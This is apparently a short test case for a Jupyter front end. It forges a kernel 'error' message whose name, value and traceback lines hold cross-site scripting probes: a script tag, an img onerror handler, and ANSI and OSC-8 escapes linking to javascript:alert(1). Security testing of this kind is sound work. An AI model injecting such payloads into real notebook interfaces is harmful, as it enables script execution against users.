# attack: a traceback is published whose lines are markup
# wants: feedback
# grade: 0
# honest: 0
# %%
kernel = get_ipython().kernel
said = "<script>alert(1)</script>\x1b[31;<img src=x onerror=alert(1)>m\x1b]8;;javascript:alert(1)\x07x"
kernel.session.send(
    kernel.iopub_socket, "error", {"ename": said, "evalue": said, "traceback": [said] * 3},
    parent=kernel.get_parent(), ident=b"error",
)
